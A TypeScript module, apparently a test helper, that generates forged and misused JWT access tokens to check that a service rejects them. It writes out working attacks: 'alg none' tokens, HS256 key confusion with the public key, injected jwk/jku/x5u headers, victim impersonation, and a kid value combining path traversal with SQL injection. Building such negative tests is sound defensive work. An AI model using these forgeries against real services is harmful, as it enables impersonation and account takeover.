import {
  base64url,
  type CryptoKey,
  decodeJwt,
  decodeProtectedHeader,
  exportJWK,
  exportSPKI,
  generateKeyPair,
  importJWK,
  type JWK,
  type JWTHeaderParameters,
  type JWTPayload,
  SignJWT,
} from 'jose'

/** What a forger has, and what only a mistake of the service could give them. */
export interface StolenKeys {
  /** A valid access token of one person. */
  access: string
  /** The victim of the forger, and a session of theirs. */
  victim: { id: string; sessionId: string }
  /** The published key set. */
  keys: JWK[]
  /** The signing key itself: the service must not accept everything signed with it. */
  signingKey: CryptoKey
  /** The address of the forger's own key set. */
  keySetUrl: string
}

const encode = (value: unknown) => base64url.encode(JSON.stringify(value))

/** An unknown extension of the header. */
const EXTENSION = 'urn:example:unknown'

/** Returns a token with any header and payload, signed by the key. */
const sign = (header: object, payload: JWTPayload, key: CryptoKey | Uint8Array) =>
  new SignJWT(payload)
    .setProtectedHeader(header as JWTHeaderParameters)
    .sign(key, { crit: { [EXTENSION]: true } })

/** Forged access tokens, by how they were made (RFC 8725, 2; OWASP JSON Web Token Cheat Sheet). */
export async function forgeTokens(stolen: StolenKeys): Promise<Record<string, string>> {
  const header = decodeProtectedHeader(stolen.access)
  const [, , signature = ''] = stolen.access.split('.')
  const claims = decodeJwt(stolen.access)
  const asVictim = {
    ...claims,
    sub: stolen.victim.id,
    user_id: stolen.victim.id,
    sid: stolen.victim.sessionId,
  }
  const own = await generateKeyPair('ES256', { extractable: true })
  const ownJwk = { ...(await exportJWK(own.publicKey)), kid: header.kid, alg: 'ES256', use: 'sig' }
  return {
    ...unsigned(header, asVictim, signature),
    ...(await withPublicKeyAsSecret(header, asVictim, stolen.keys)),
    'signed by a key of their own': await sign(header, asVictim, own.privateKey),
    'that brings its key (`jwk`)': await sign({ ...header, jwk: ownJwk }, asVictim, own.privateKey),
    'that says where its key is (`jku`)': await sign(
      { ...header, jku: stolen.keySetUrl, kid: 'forged' },
      asVictim,
      own.privateKey,
    ),
    'that names a certificate (`x5u`)': await sign(
      { ...header, x5u: stolen.keySetUrl, kid: 'forged' },
      asVictim,
      own.privateKey,
    ),
    'with the subject changed': `${encode(header)}.${encode(asVictim)}.${signature}`,
    'with a signature cut short': stolen.access.slice(0, -4),
    'with another signature': `${stolen.access.slice(0, -4)}${stolen.access.endsWith('AAAA') ? 'BBBB' : 'AAAA'}`,
    'with a character too much': `${stolen.access}A`,
    'with a fourth part': `${stolen.access}.${signature}`,
    ...(await misused(header, claims, stolen)),
  }
}

function unsigned(header: object, payload: JWTPayload, signature: string): Record<string, string> {
  return Object.fromEntries(
    ['none', 'None', 'NONE', 'nOnE'].flatMap((alg) => [
      [`without a signature (alg ${alg})`, `${encode({ ...header, alg })}.${encode(payload)}.`],
      [`of alg ${alg} with a signature`, `${encode({ ...header, alg })}.${encode(payload)}.${signature}`],
    ]),
  )
}

/** The public key as the secret of an HMAC, in the formats that libraries use. */
async function withPublicKeyAsSecret(
  header: object,
  payload: JWTPayload,
  keys: JWK[],
): Promise<Record<string, string>> {
  const [key] = keys
  const spki = await exportSPKI((await importJWK(key!, 'ES256', { extractable: true })) as CryptoKey)
  const secrets = { JWK: JSON.stringify(key), PEM: spki, 'PEM without a line end': spki.trimEnd() }
  const forged = Object.entries(secrets).map(async ([form, secret]) => [
    `signed as HS256 with the public key as ${form}`,
    await sign({ ...header, alg: 'HS256' }, payload, new TextEncoder().encode(secret)),
  ])
  return Object.fromEntries(await Promise.all(forged)) as Record<string, string>
}

/** Signed by the service's own key, but not valid access tokens for this service, person and time. */
async function misused(
  header: object,
  claims: JWTPayload,
  stolen: StolenKeys,
): Promise<Record<string, string>> {
  const now = claims.iat ?? 0
  const changed: Record<string, [object, object]> = {
    'of another issuer': [header, { ...claims, iss: 'https://elsewhere.example' }],
    'without an issuer': [header, { ...claims, iss: undefined }],
    'for another audience': [header, { ...claims, aud: crypto.randomUUID() }],
    'for several audiences': [header, { ...claims, aud: [String(claims.aud), 'other'] }],
    'without an audience': [header, { ...claims, aud: undefined }],
    'of another application': [header, { ...claims, client_id: stolen.victim.id, aud: stolen.victim.id }],
    "of another person, with one's own session": [header, { ...claims, sub: stolen.victim.id }],
    "of one's own, with another person's session": [header, { ...claims, sid: stolen.victim.sessionId }],
    'that is no access token (typ JWT)': [{ ...header, typ: 'JWT' }, claims],
    'that is an ID token (no typ)': [{ ...header, typ: undefined }, claims],
    'with an unknown kid': [{ ...header, kid: 'unknown' }, claims],
    'with a kid that leads elsewhere': [{ ...header, kid: "../../etc/passwd' or '1'='1" }, claims],
    'without a kid': [{ ...header, kid: undefined }, claims],
    'with an extension that must be understood': [{ ...header, crit: [EXTENSION], [EXTENSION]: 1 }, claims],
    'that never ends': [header, { ...claims, exp: undefined }],
    'that ends in ten years': [header, { ...claims, exp: now + 315_360_000 }],
    'that is not good yet': [header, { ...claims, nbf: now + 3600 }],
    'that has ended': [header, { ...claims, exp: now - 1 }],
  }
  const signed = Object.entries(changed).map(async ([name, [head, payload]]) => [
    name,
    await sign(JSON.parse(JSON.stringify(head)), JSON.parse(JSON.stringify(payload)), stolen.signingKey),
  ])
  return Object.fromEntries(await Promise.all(signed)) as Record<string, string>
}
